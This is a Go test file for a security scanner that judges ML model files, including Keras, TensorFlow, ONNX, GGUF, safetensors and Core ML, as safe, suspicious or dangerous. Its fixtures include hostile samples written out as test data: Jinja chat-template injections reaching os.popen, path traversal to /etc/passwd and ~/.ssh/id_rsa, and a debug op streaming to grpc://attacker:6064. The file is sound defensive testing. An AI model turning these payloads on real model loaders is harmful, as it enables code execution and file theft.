package modelscan

import (
	"context"
	"encoding/binary"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bulwark-security/bulwark/internal/finding"
	"github.com/bulwark-security/bulwark/internal/model"
)

// outcome is what the tests compare: format, verdict and the set of rules.
type outcome struct {
	Format  model.Format
	Verdict Verdict
	Rules   []string
}

func outcomeOf(r Result) outcome {
	var rules []string
	for _, x := range r.Reasons {
		if !slices.Contains(rules, x.Rule) {
			rules = append(rules, x.Rule)
		}
	}
	slices.Sort(rules)
	return outcome{Format: r.Format, Verdict: r.Verdict, Rules: rules}
}

type scanCase struct {
	name string
	data []byte
	want outcome
	// contains are substrings that the reasons' messages must hold.
	contains []string
}

func scanCases(t testing.TB) []scanCase {
	lambdaV2 := `{"class_name": "Lambda", "config": {"name": "lam", "function": ["4wEAAAAAAAAA", null, null], "function_type": "lambda"}}`
	nested := kerasConfig(kerasDense, `{"module": "keras.src.models.functional", "class_name": "Functional", "config": {"name": "inner", "layers": [`+kerasLambda+`]}, "registered_name": null}`)
	return []scanCase{
		// Keras 3 archives.
		{"keras archive of builtin layers is safe", kerasArchive(t, kerasConfig(kerasDense)),
			outcome{model.FormatKeras, Safe, nil}, nil},
		{"keras archive with a Lambda layer is dangerous", kerasArchive(t, kerasConfig(kerasDense, kerasLambda)),
			outcome{model.FormatKeras, Dangerous, []string{ruleKerasLambda}}, []string{`"evil"`, "safe_mode"}},
		{"keras Lambda inside a nested functional model is found", kerasArchive(t, nested),
			outcome{model.FormatKeras, Dangerous, []string{ruleKerasLambda}}, []string{`"evil"`}},
		{"keras Lambda written as a Keras 2 bytecode list is dangerous", kerasArchive(t, kerasConfig(lambdaV2)),
			outcome{model.FormatKeras, Dangerous, []string{ruleKerasLambda}}, []string{`"lam"`, "bytecode"}},
		{"keras custom object from another package is suspicious", kerasArchive(t, kerasConfig(`{"module": "my_pkg.layers", "class_name": "Attention", "config": {"name": "att"}, "registered_name": "MyPkg>Attention"}`)),
			outcome{model.FormatKeras, Suspicious, []string{ruleKerasCustomObject}}, []string{"my_pkg.layers"}},
		{"keras object naming os.system is dangerous", kerasArchive(t, kerasConfig(`{"module": "os", "class_name": "system", "config": {"name": "x"}, "registered_name": null}`)),
			outcome{model.FormatKeras, Dangerous, []string{ruleKerasDangerousMod}}, []string{"os.system"}},
		{"keras config turning off safe mode is dangerous", kerasArchive(t, kerasConfig(`{"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": null}`)),
			outcome{model.FormatKeras, Dangerous, []string{ruleKerasUnsafeFunction}}, []string{"enable_unsafe_deserialization"}},
		{"keras archive member escaping the archive is suspicious", zipOf(t, map[string]string{"config.json": kerasConfig(kerasDense), "metadata.json": "{}", "../evil.py": "x"}),
			outcome{model.FormatKeras, Suspicious, []string{ruleKerasArchivePath}}, []string{"../evil.py"}},
		{"keras config that is not JSON is suspicious", kerasArchive(t, `{"class_name": `),
			outcome{model.FormatKeras, Suspicious, []string{ruleKerasConfigInvalid}}, nil},

		// Keras 2 HDF5 files written by h5py.
		{"h5 model_config with Lambda (superblock 0, fixed string) is dangerous", testdata(t, "lambda_earliest_fixed.h5"),
			outcome{model.FormatHDF5, Dangerous, []string{ruleKerasLambda}}, []string{`"evil"`, "Keras 2"}},
		{"h5 model_config with Lambda (superblock 3, variable-length string) is dangerous", testdata(t, "lambda_latest_vlen.h5"),
			outcome{model.FormatHDF5, Dangerous, []string{ruleKerasLambda}}, []string{`"evil"`}},
		{"h5 model_config of Dense layers (superblock 3, fixed string) is safe", testdata(t, "clean_latest_fixed.h5"),
			outcome{model.FormatHDF5, Safe, nil}, nil},
		{"h5 model_config of Dense layers (superblock 0, variable-length string) is safe", testdata(t, "clean_earliest_vlen.h5"),
			outcome{model.FormatHDF5, Safe, nil}, nil},

		// TensorFlow.
		{"savedmodel with a fed checkpoint path is safe", savedModel(graphDef(benignGraph(), "", nil)),
			outcome{model.FormatTFSavedModel, Safe, nil}, nil},
		{"savedmodel with PyFunc is dangerous", savedModel(graphDef(append(benignGraph(), tfNodeDef("cb", "PyFunc", []string{"x"})), "", nil)),
			outcome{model.FormatTFSavedModel, Dangerous, []string{ruleTFPython}}, []string{"PyFunc", "cb"}},
		{"savedmodel ReadFile of a constant path names the path", savedModel(graphDef(append(benignGraph(),
			tfConstString("p", "/etc/passwd"), tfNodeDef("rf", "ReadFile", []string{"p"})), "", nil)),
			outcome{model.FormatTFSavedModel, Dangerous, []string{ruleTFFileRead}}, []string{"/etc/passwd", "ReadFile"}},
		{"savedmodel WriteFile inside a library function is found", savedModel(graphDef(benignGraph(), "__inference_call_42", [][]byte{
			tfConstString("c", "/tmp/x.sh"), tfNodeDef("wf", "WriteFile", []string{"c:output:0", "data"})})),
			outcome{model.FormatTFSavedModel, Dangerous, []string{ruleTFFileWrite}}, []string{"__inference_call_42", "/tmp/x.sh"}},
		{"savedmodel SaveV2 to a constant path is dangerous", savedModel(graphDef([][]byte{
			tfNodeDef("x", "Placeholder", nil), tfConstString("prefix", "/var/www/shell"), tfNodeDef("s", "SaveV2", []string{"prefix", "n", "sl", "x"})}, "", nil)),
			outcome{model.FormatTFSavedModel, Dangerous, []string{ruleTFCheckpoint}}, []string{"/var/www/shell"}},
		{"savedmodel TF1 saver writing through its filename constant is safe", savedModelWithSaver(graphDef([][]byte{
			tfNodeDef("w", "VariableV2", nil), tfConstString("save/Const", "/tmp/any/absolute/default"), tfNodeDef("save/SaveV2", "SaveV2", []string{"save/Const", "n", "sl", "w"}),
			tfNodeDef("save/RestoreV2", "RestoreV2", []string{"save/Const", "n", "sl"})}, "", nil), "save/Const:0"),
			outcome{model.FormatTFSavedModel, Safe, nil}, nil},
		{"savedmodel checkpoint op with a relative default name is safe", savedModel(graphDef([][]byte{
			tfNodeDef("w", "VariableV2", nil), tfConstString("c", "model"), tfNodeDef("s", "SaveV2", []string{"c", "n", "sl", "w"})}, "", nil)),
			outcome{model.FormatTFSavedModel, Safe, nil}, nil},
		{"savedmodel asset escaping the assets directory is dangerous", cat(pbInt(1, 1), pbLen(2, pbLen(1, pbStr(4, "serve")), pbLen(2, graphDef(benignGraph(), "", nil)),
			pbLen(6, pbLen(1, pbStr(1, "asset_path:0")), pbStr(2, "../../../../etc/passwd")))),
			outcome{model.FormatTFSavedModel, Dangerous, []string{ruleTFAssetPath}}, []string{"../../../../etc/passwd"}},
		{"savedmodel asset inside the assets directory is safe", cat(pbInt(1, 1), pbLen(2, pbLen(1, pbStr(4, "serve")), pbLen(2, graphDef(benignGraph(), "", nil)),
			pbLen(6, pbLen(1, pbStr(1, "asset_path:0")), pbStr(2, "vocab.txt")))),
			outcome{model.FormatTFSavedModel, Safe, nil}, nil},
		{"savedmodel Keras user object metadata with a Lambda is dangerous", cat(pbInt(1, 1), pbLen(2, pbLen(1, pbStr(4, "serve")), pbLen(2, graphDef(benignGraph(), "", nil)),
			pbLen(7, pbLen(1, pbLen(4, pbStr(1, "_tf_keras_layer"), pbStr(3, `{"class_name": "Lambda", "name": "lam", "config": {"name": "lam", "function": ["YWJj", null, null]}}`)))))),
			outcome{model.FormatTFSavedModel, Dangerous, []string{ruleKerasLambda}}, []string{`"lam"`}},
		{"savedmodel debug op streaming to grpc is dangerous", savedModel(graphDef(append(benignGraph(),
			tfNodeDef("dbg", "DebugIdentity", []string{"mm"}, []byte("debug_urls"), tfAttrList("grpc://attacker:6064"))), "", nil)),
			outcome{model.FormatTFSavedModel, Dangerous, []string{ruleTFDebugURL}}, []string{"grpc://attacker:6064"}},
		{"savedmodel PrintV2 to a file is dangerous", savedModel(graphDef(append(benignGraph(),
			tfNodeDef("pr", "PrintV2", []string{"mm"}, []byte("output_stream"), tfAttrString("file:///tmp/leak"))), "", nil)),
			outcome{model.FormatTFSavedModel, Dangerous, []string{ruleTFPrintFile}}, []string{"file:///tmp/leak"}},
		{"savedmodel PrintV2 to stderr is safe", savedModel(graphDef(append(benignGraph(),
			tfNodeDef("pr", "PrintV2", []string{"mm"}, []byte("output_stream"), tfAttrString("stderr"))), "", nil)),
			outcome{model.FormatTFSavedModel, Safe, nil}, nil},
		{"frozen graphdef of math ops is safe", graphDef([][]byte{tfNodeDef("x", "Placeholder", nil), tfNodeDef("r", "Relu", []string{"x"})}, "", nil),
			outcome{model.FormatTFGraphDef, Safe, nil}, nil},
		{"frozen graphdef with MatchingFiles and EagerPyFunc lists both", graphDef([][]byte{tfNodeDef("x", "Placeholder", nil),
			tfNodeDef("m", "MatchingFiles", []string{"x"}), tfNodeDef("e", "EagerPyFunc", []string{"x"})}, "", nil),
			outcome{model.FormatTFGraphDef, Dangerous, []string{ruleTFFileRead, ruleTFPython}}, nil},

		// ONNX, written by the onnx Python package and built here.
		{"onnx model from onnx.helper is safe", testdata(t, "clean.onnx"),
			outcome{model.FormatONNX, Safe, nil}, nil},
		{"onnx custom domain ai.onnx.contrib is suspicious", testdata(t, "custom_domain.onnx"),
			outcome{model.FormatONNX, Suspicious, []string{ruleONNXCustomDomain}}, []string{"ai.onnx.contrib", "PyOp"}},
		{"onnx external data with ../ is dangerous", testdata(t, "external_traversal.onnx"),
			outcome{model.FormatONNX, Dangerous, []string{ruleONNXTraversal}}, []string{"../../../etc/passwd"}},
		{"onnx call of a local function written by onnx.helper is not a custom op", testdata(t, "local_function.onnx"),
			outcome{model.FormatONNX, Safe, nil}, nil},
		{"onnx external data saved by onnx.save_model is safe", testdata(t, "external_data.onnx"),
			outcome{model.FormatONNX, Safe, nil}, nil},
		{"onnx absolute external data in an If branch written by onnx.helper is dangerous", testdata(t, "if_subgraph_absolute.onnx"),
			outcome{model.FormatONNX, Dangerous, []string{ruleONNXTraversal}}, []string{"/etc/shadow", `"tw"`}},
		{"onnx external data beside the model is safe", onnxModel(cat(onnxNode("Relu", "", "r"), onnxExternal(5, "w", "weights.bin"))),
			outcome{model.FormatONNX, Safe, nil}, nil},
		{"onnx absolute external data in an If subgraph is dangerous", onnxModel(cat(onnxNode("If", "", "if",
			pbLen(5, pbStr(1, "then_branch"), pbLen(6, onnxNode("Relu", "", "r2"), onnxExternal(5, "w2", "C:\\Windows\\win.ini")))))),
			outcome{model.FormatONNX, Dangerous, []string{ruleONNXTraversal}}, []string{`C:\\Windows\\win.ini`}},
		{"onnx call of a local function is not a custom op", onnxModel(onnxNode("MyGelu", "local.fn", "g"),
			pbLen(25, pbStr(1, "MyGelu"), pbStr(4, "x"), pbStr(5, "y"), pbLen(7, pbStr(1, "x"), pbStr(2, "y"), pbStr(4, "Relu")), pbStr(10, "local.fn"))),
			outcome{model.FormatONNX, Safe, nil}, nil},
		{"onnx com.microsoft contrib op is safe", onnxModel(onnxNode("FusedMatMul", "com.microsoft", "f")),
			outcome{model.FormatONNX, Safe, nil}, nil},

		// TFLite.
		{"tflite with builtin ops is safe", tfliteModel(tfliteOp{code: 3}, tfliteOp{code: 9}),
			outcome{model.FormatTFLite, Safe, nil}, nil},
		{"tflite custom op is suspicious", tfliteModel(tfliteOp{code: 3}, tfliteOp{code: 32, custom: "TFLite_Detection_PostProcess"}),
			outcome{model.FormatTFLite, Suspicious, []string{ruleTFLiteCustom}}, []string{"TFLite_Detection_PostProcess"}},
		{"tflite Flex ops are suspicious and listed", tfliteModel(tfliteOp{code: 32, custom: "FlexReadFile"}, tfliteOp{code: 32, custom: "FlexStringJoin"}),
			outcome{model.FormatTFLite, Suspicious, []string{ruleTFLiteFlex}}, []string{"FlexReadFile", "FlexStringJoin"}},
		{"tflite graph with valid indexes is safe", tfliteGraph([]tfliteOp{{code: 3}}, []uint32{0, 1, 0},
			[]tfliteOperator{{0, []int32{0, 1, -1}}}, 2),
			outcome{model.FormatTFLite, Safe, nil}, nil},
		{"tflite operator naming a missing tensor is dangerous", tfliteGraph([]tfliteOp{{code: 3}}, []uint32{0, 1},
			[]tfliteOperator{{0, []int32{0, 7}}}, 2),
			outcome{model.FormatTFLite, Dangerous, []string{ruleTFLiteIndex}}, []string{"tensor 7 of 2"}},
		{"tflite operator naming a missing operator code is dangerous", tfliteGraph([]tfliteOp{{code: 3}}, []uint32{0},
			[]tfliteOperator{{5, []int32{0}}}, 1),
			outcome{model.FormatTFLite, Dangerous, []string{ruleTFLiteIndex}}, []string{"operator code 5 of 1"}},
		{"tflite tensor naming a missing buffer is dangerous", tfliteGraph([]tfliteOp{{code: 3}}, []uint32{0, 9},
			[]tfliteOperator{{0, []int32{0, 1}}}, 2),
			outcome{model.FormatTFLite, Dangerous, []string{ruleTFLiteIndex}}, []string{"buffer 9 of 2"}},
		{"mediapipe task bundle with a custom op in a member", zipOf(t, map[string]string{
			"face_detector.tflite": string(tfliteModel(tfliteOp{code: 32, custom: "Convolution2DTransposeBias"})),
			"labels.txt":           "face"}),
			outcome{model.FormatMediaPipeTask, Suspicious, []string{ruleTFLiteCustom}}, []string{"Convolution2DTransposeBias"}},

		// GGUF.
		{"gguf with a ChatML template is safe", ggufModel(chatMLTemplate),
			outcome{model.FormatGGUF, Safe, nil}, nil},
		{"gguf with a Llama 3 style template is safe", ggufModel(llama3Template),
			outcome{model.FormatGGUF, Safe, nil}, nil},
		{"gguf chat template reaching os.popen is dangerous", ggufModel(sstiTemplate),
			outcome{model.FormatGGUF, Dangerous, []string{ruleGGUFTemplateInjection, ruleGGUFTemplateSuspect}}, []string{"__globals__", "cycler"}},
		{"gguf template hiding underscores as escapes is dangerous", ggufModel(`{{ ''|attr('\x5f\x5fclass\x5f\x5f') }}`),
			outcome{model.FormatGGUF, Dangerous, []string{ruleGGUFTemplateInjection, ruleGGUFTemplateSuspect}}, []string{`\x5f`}},
		{"gguf with a key/value count the file cannot hold is dangerous", lyingGGUFCount(),
			outcome{model.FormatGGUF, Dangerous, []string{ruleGGUFMalformed}}, []string{"more than"}},
		{"gguf string length past the end is dangerous", lyingGGUFString(),
			outcome{model.FormatGGUF, Dangerous, []string{ruleGGUFMalformed}}, []string{"runs past the end"}},
		{"gguf tensor past the data section is suspicious", ggufFile([]ggufKV{ggufStrKV("general.architecture", "llama")},
			[]ggufTensorInfo{{"a", []uint64{16}, 0, 0}, {"b", []uint64{16}, 0, 4096}}, make([]byte, 128)),
			outcome{model.FormatGGUF, Suspicious, []string{ruleGGUFTensorLayout}}, []string{`"b"`}},
		{"gguf overlapping tensors are suspicious", ggufFile([]ggufKV{ggufStrKV("general.architecture", "llama")},
			[]ggufTensorInfo{{"a", []uint64{16}, 0, 0}, {"b", []uint64{16}, 0, 32}}, make([]byte, 128)),
			outcome{model.FormatGGUF, Suspicious, []string{ruleGGUFTensorLayout}}, []string{"overlap"}},
		{"gguf duplicate key is suspicious", ggufFile([]ggufKV{ggufStrKV("general.architecture", "llama"), ggufStrKV("general.architecture", "gpt2")}, nil, nil),
			outcome{model.FormatGGUF, Suspicious, []string{ruleGGUFDuplicateKey}}, []string{"general.architecture"}},

		// safetensors.
		{"safetensors tiling the data section is safe", safetensorsFile(map[string]any{
			"__metadata__": map[string]string{"format": "pt"},
			"a":            stEntry("F32", []int{2, 2}, 0, 16), "b": stEntry("BF16", []int{4}, 16, 24)}, make([]byte, 24)),
			outcome{model.FormatSafetensors, Safe, nil}, nil},
		{"safetensors overlapping offsets are dangerous", safetensorsFile(map[string]any{
			"a": stEntry("F32", []int{4}, 0, 16), "b": stEntry("F32", []int{4}, 8, 24)}, make([]byte, 24)),
			outcome{model.FormatSafetensors, Dangerous, []string{ruleSTOverlap}}, []string{`"a" and "b"`}},
		{"safetensors offsets past the end are dangerous", safetensorsFile(map[string]any{
			"a": stEntry("F32", []int{1024}, 0, 4096)}, make([]byte, 16)),
			outcome{model.FormatSafetensors, Dangerous, []string{ruleSTOutOfRange}}, nil},
		{"safetensors shape disagreeing with offsets is dangerous", safetensorsFile(map[string]any{
			"a": stEntry("F32", []int{8}, 0, 16)}, make([]byte, 16)),
			outcome{model.FormatSafetensors, Dangerous, []string{ruleSTSizeMismatch}}, []string{"needs 256 bits"}},
		{"safetensors trailing bytes are suspicious", safetensorsFile(map[string]any{
			"a": stEntry("U8", []int{4}, 0, 4)}, make([]byte, 20)),
			outcome{model.FormatSafetensors, Suspicious, []string{ruleSTUncovered}}, []string{"16 bytes after"}},
		{"safetensors metadata that is not strings is suspicious", safetensorsFile(map[string]any{
			"__metadata__": map[string]any{"format": "pt", "epochs": 3},
			"a":            stEntry("U8", []int{4}, 0, 4)}, make([]byte, 4)),
			outcome{model.FormatSafetensors, Suspicious, []string{ruleSTMetadata}}, []string{"epochs"}},

		// Core ML.
		{"core ml neural network of builtin layers is safe", coremlSpec(pbLen(500, coremlLayer("conv", ""))),
			outcome{model.FormatCoreML, Safe, nil}, nil},
		{"core ml custom layer is suspicious", coremlSpec(pbLen(500, coremlLayer("conv", ""), coremlLayer("magic", "MyCustomLayer"))),
			outcome{model.FormatCoreML, Suspicious, []string{ruleCoreMLCustomLayer}}, []string{"MyCustomLayer", `"magic"`}},
		{"core ml custom model is suspicious", coremlSpec(pbLen(555, pbStr(10, "MyModelClass"))),
			outcome{model.FormatCoreML, Suspicious, []string{ruleCoreMLCustomModel}}, []string{"MyModelClass"}},
		{"core ml custom layer inside a pipeline is found", coremlSpec(pbLen(202, pbLen(1, coremlSpec(pbLen(500, coremlLayer("inner", "Sneaky")))))),
			outcome{model.FormatCoreML, Suspicious, []string{ruleCoreMLCustomLayer}}, []string{"pipeline model 1", "Sneaky"}},

		// Dispatch.
		{"pickle is left to the pickle scanner and not called safe", []byte("\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01.\x00"),
			outcome{model.FormatPickle, Suspicious, []string{ruleNotExamined}}, nil},
		{"unrecognized bytes are not called safe", []byte("just some text, not a model at all\n"),
			outcome{"", Suspicious, []string{ruleUnknown}}, nil},
	}
}

// lyingGGUFCount declares a billion key/value pairs in a small file.
func lyingGGUFCount() []byte {
	b := ggufModel("")
	binary.LittleEndian.PutUint64(b[16:], 1<<30)
	return b
}

// lyingGGUFString makes the first key's value length point far past the end.
func lyingGGUFString() []byte {
	b := ggufModel("")
	// header (24) + key length (8) + "general.architecture" (20) + type (4)
	binary.LittleEndian.PutUint64(b[24+8+20+4:], 1<<40)
	return b
}

func TestScanBytes(t *testing.T) {
	s := New(Options{}, nil)
	for _, tc := range scanCases(t) {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r := s.ScanBytes(context.Background(), tc.name, tc.data)
			if diff := cmp.Diff(tc.want, outcomeOf(r)); diff != "" {
				t.Errorf("outcome (-want +got):\n%s\nreasons: %+v\nerr: %s", diff, r.Reasons, r.Err)
			}
			var msgs []string
			for _, x := range r.Reasons {
				msgs = append(msgs, x.Message)
			}
			all := strings.Join(msgs, "\n")
			for _, c := range tc.contains {
				if !strings.Contains(all, c) {
					t.Errorf("messages do not mention %q:\n%s", c, all)
				}
			}
			if r.Size != int64(len(tc.data)) || len(r.SHA256) != 64 {
				t.Errorf("size %d, sha256 %q; want %d and a hex digest", r.Size, r.SHA256, len(tc.data))
			}
		})
	}
}

// TestVerdictIsWorstReason checks the verdict and the reason order.
func TestVerdictIsWorstReason(t *testing.T) {
	graph := graphDef([][]byte{tfNodeDef("x", "Placeholder", nil), tfNodeDef("m", "MatchingFiles", []string{"x"}),
		tfNodeDef("w", "WriteFile", []string{"x", "x"})}, "", nil)
	r := New(Options{}, nil).ScanBytes(context.Background(), "g.pb", graph)
	if r.Verdict != Dangerous {
		t.Fatalf("verdict %s, want dangerous", r.Verdict)
	}
	for i := 1; i < len(r.Reasons); i++ {
		a, b := r.Reasons[i-1], r.Reasons[i]
		if a.Verdict.rank() < b.Verdict.rank() || a.Verdict == b.Verdict && a.Severity < b.Severity {
			t.Errorf("reason %d (%s %s) before worse reason %d (%s %s)", i-1, a.Verdict, a.Severity, i, b.Verdict, b.Severity)
		}
	}
	if r.Reasons[0].Rule != ruleTFFileWrite || r.Reasons[0].Severity != finding.SeverityCritical {
		t.Errorf("first reason %+v, want the critical WriteFile", r.Reasons[0])
	}
}

func TestExtraScannersAddAndReplace(t *testing.T) {
	called := 0
	pickle := func(ctx context.Context, f File) ([]Reason, error) {
		called++
		return []Reason{{Rule: "pickle-global", Severity: finding.SeverityCritical, Verdict: Dangerous, Message: "os.system"}}, nil
	}
	data := []byte("\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00K\x01.\x00")
	s := New(Options{}, map[model.Format]FormatScanner{model.FormatPickle: pickle, model.FormatONNX: nil})
	r := s.ScanBytes(context.Background(), "p.pkl", data)
	if diff := cmp.Diff(outcome{model.FormatPickle, Dangerous, []string{"pickle-global"}}, outcomeOf(r)); diff != "" || called != 1 {
		t.Errorf("pickle through the extra scanner (-want +got):\n%s (called %d times)", diff, called)
	}
	if _, ok := s.Lookup(model.FormatONNX); ok {
		t.Errorf("a nil extra entry did not remove the ONNX scanner")
	}
	for _, f := range []model.Format{model.FormatPickle, model.FormatPyTorchZip, model.FormatNumPy, model.FormatNPZ, model.FormatTorchScript, model.FormatPyTorchLegacy, model.FormatZipPickle} {
		if _, ok := DefaultFormats()[f]; ok {
			t.Errorf("DefaultFormats examines %s, which belongs to the pickle scanner", f)
		}
	}
}

func TestScannerErrorsAreReported(t *testing.T) {
	tests := []struct {
		name string
		err  error
		rule string
	}{
		{"limit error marks the scan incomplete", ErrLimit, ruleIncomplete},
		{"malformed error marks the file malformed", ErrMalformed, ruleMalformed},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fail := func(ctx context.Context, f File) ([]Reason, error) {
				return []Reason{{Rule: "kept", Verdict: Safe}}, tc.err
			}
			s := New(Options{}, map[model.Format]FormatScanner{model.FormatONNX: fail})
			r := s.ScanBytes(context.Background(), "m.onnx", testdata(t, "clean.onnx"))
			if diff := cmp.Diff(outcome{model.FormatONNX, Suspicious, []string{"kept", tc.rule}}, outcomeOf(r)); diff != "" || r.Err == "" {
				t.Errorf("(-want +got):\n%s err %q", diff, r.Err)
			}
		})
	}
}

func TestLimitsStopLargeStructures(t *testing.T) {
	s := New(Options{Limits: Limits{MaxProtoFields: 5}}, nil)
	r := s.ScanBytes(context.Background(), "g.pb", savedModel(graphDef(benignGraph(), "", nil)))
	if diff := cmp.Diff(outcome{model.FormatTFSavedModel, Suspicious, []string{ruleIncomplete}}, outcomeOf(r)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestCancelledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var fields [][]byte
	for i := 0; i < 10_000; i++ {
		fields = append(fields, tfNodeDef("n", "Relu", []string{"x"}))
	}
	r := New(Options{}, nil).ScanBytes(ctx, "g.pb", graphDef(fields, "", nil))
	if r.Verdict == Safe || r.Err == "" {
		t.Errorf("a cancelled scan gave verdict %s, err %q; want it marked incomplete", r.Verdict, r.Err)
	}
}

func TestScanPathDirectories(t *testing.T) {
	dir := t.TempDir()
	write := func(rel string, data []byte) {
		t.Helper()
		p := filepath.Join(dir, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("sm/saved_model.pb", savedModel(graphDef(append(benignGraph(), tfNodeDef("cb", "PyFunc", nil)), "", nil)))
	write("sm/variables/variables.index", []byte("x"))
	write("sm/keras_metadata.pb", pbLen(1, pbInt(2, 1), pbStr(3, "root.layer-1"), pbStr(5, `{"class_name": "Lambda", "config": {"name": "lam", "function": ["abc", null, null]}}`)))
	write("pkg.mlpackage/Manifest.json", []byte(`{}`))
	write("pkg.mlpackage/Data/com.apple.CoreML/model.mlmodel", coremlSpec(pbLen(500, coremlLayer("c", "Custom1"))))
	write("compiled.mlmodelc/coremldata.bin", []byte("binary"))
	write("compiled.mlmodelc/model.espresso.net", []byte("{}"))
	write("models/clean.onnx", testdata(t, "clean.onnx"))
	write("models/readme.txt", []byte("not a model"))
	write("models/weights.bin", []byte("unknown content with a model extension"))

	s := New(Options{}, nil)
	rs, err := s.ScanPaths(context.Background(), []string{dir})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]outcome{}
	for _, r := range rs {
		rel, _ := filepath.Rel(dir, r.Path)
		got[filepath.ToSlash(rel)] = outcomeOf(r)
	}
	want := map[string]outcome{
		"sm":                 {model.FormatTFSavedModel, Dangerous, []string{ruleKerasLambda, ruleTFPython}},
		"pkg.mlpackage":      {model.FormatCoreML, Suspicious, []string{ruleCoreMLCustomLayer}},
		"compiled.mlmodelc":  {model.FormatCoreML, Suspicious, []string{ruleCoreMLCompiled}},
		"models/clean.onnx":  {model.FormatONNX, Safe, nil},
		"models/weights.bin": {"", Suspicious, []string{ruleUnknown}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ScanPaths (-want +got):\n%s", diff)
	}
	for _, r := range rs {
		if r.Format == model.FormatTFSavedModel {
			for _, x := range r.Reasons {
				if x.Member == "" {
					t.Errorf("reason %s of a directory has no member", x.Rule)
				}
			}
		}
	}

	one, err := s.ScanPath(context.Background(), filepath.Join(dir, "models", "clean.onnx"))
	if err != nil || one.SHA256 == "" || one.Size != int64(len(testdata(t, "clean.onnx"))) {
		t.Errorf("ScanPath of a file: %+v, %v", one, err)
	}
	if _, err := s.ScanPath(context.Background(), filepath.Join(dir, "absent.onnx")); err == nil {
		t.Errorf("ScanPath of a missing file returned no error")
	}
}

func TestChatTemplates(t *testing.T) {
	tests := []struct {
		name     string
		template string
		want     []string
	}{
		{"chatml template is clean", chatMLTemplate, nil},
		{"llama 3 style template with namespace is clean", llama3Template, nil},
		{"mistral style template is clean", `{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% else %}{{ message['content'] + eos_token }}{% endif %}{% endfor %}`, nil},
		{"subclasses walk is injection", `{{ ''.__class__.__mro__[1].__subclasses__() }}`, []string{ruleGGUFTemplateInjection}},
		{"lipsum globals is injection", `{{ lipsum.__globals__['os'].popen('id').read() }}`, []string{ruleGGUFTemplateInjection, ruleGGUFTemplateSuspect}},
		{"namespace init is injection", `{% set x = namespace.__init__.__globals__ %}`, []string{ruleGGUFTemplateInjection}},
		{"attr filter alone is suspicious", `{{ messages|attr('x') }}`, []string{ruleGGUFTemplateSuspect}},
		{"underscore concatenation is suspicious", `{% set u = '_' ~ '_' %}{{ messages|map(attribute=u) }}`, []string{ruleGGUFTemplateSuspect}},
		{"escaped dunder in subscript is injection", `{{ request['__cl' + 'ass__'] }}{{ x["__class__"] }}`, []string{ruleGGUFTemplateInjection}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, r := range CheckChatTemplate("tokenizer.chat_template", tc.template) {
				got = append(got, r.Rule)
			}
			slices.Sort(got)
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("rules (-want +got):\n%s", diff)
			}
		})
	}
}

func TestPathEscapes(t *testing.T) {
	tests := []struct {
		path string
		want bool
	}{
		{"weights.bin", false}, {"data/weights.bin", false}, {"a..b", false},
		{"../weights.bin", true}, {"a/../../b", true}, {"/etc/passwd", true},
		{`C:\Windows\win.ini`, true}, {`\\server\share\w`, true}, {`..\x`, true}, {"~/.ssh/id_rsa", true},
	}
	for _, tc := range tests {
		if got := pathEscapes(tc.path); got != tc.want {
			t.Errorf("pathEscapes(%q) = %v, want %v", tc.path, got, tc.want)
		}
	}
}
